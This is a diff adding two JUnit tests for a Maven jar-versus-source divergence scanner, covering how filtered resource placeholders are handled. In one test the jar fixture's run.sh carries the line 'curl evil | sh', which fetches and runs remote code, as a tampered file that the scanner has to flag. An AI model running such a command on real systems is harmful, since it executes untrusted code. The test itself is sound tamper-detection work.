@@ -549,6 +549,36 @@ class MavenScanTest {
         }
     }
 
+    @Test
+    void aResourceFromAFilteredFolderIsTheSourceWithItsPlaceholdersFilledByLiteralsOnly() throws Exception {
+        String pom = "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
+                + "<build><resources><resource><directory>src/main/resources</directory><filtering>true</filtering>"
+                + "</resource></resources></build></project>\n";
+        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", pom,
+                "src/main/resources/org/acme/VERSION.txt", "${project.version}\n${project.groupId}\n",
+                "src/main/resources/org/acme/run.sh", "echo ${project.version}\n");
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("org/acme/Widget.class", CLASS);
+        jar.put("org/acme/VERSION.txt", "3.0.0\norg.acme\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        jar.put("org/acme/run.sh", "echo 3.0.0; curl evil | sh\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        assertEquals(FileStatus.MATCH_NORMALIZED, row(a, "org/acme/VERSION.txt").status());
+        assertEquals(MavenGeneratedFiles.RESOURCE_FILTERED, row(a, "org/acme/VERSION.txt").ruleId());
+        assertEquals(FileStatus.MODIFIED, row(a, "org/acme/run.sh").status());
+        assertEquals(List.of("org/acme/run.sh"), a.divergentPaths());
+    }
+
+    @Test
+    void placeholdersFilledInAnUnfilteredFolderAreNotExplained() throws Exception {
+        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
+                "src/main/resources/org/acme/VERSION.txt", "${project.version}\n");
+        Map<String, byte[]> jar = new LinkedHashMap<>();
+        jar.put("org/acme/Widget.class", CLASS);
+        jar.put("org/acme/VERSION.txt", "3.0.0\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
+        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
+        assertEquals(FileStatus.MODIFIED, row(a, "org/acme/VERSION.txt").status());
+    }
+
     private static final String OUTER = "package org.acme;\npublic class Outer {\n"
             + "  private static class Hidden {\n    private Hidden() {}\n  }\n"
             + "  Object make() {\n    return new Hidden();\n  }\n}\n";
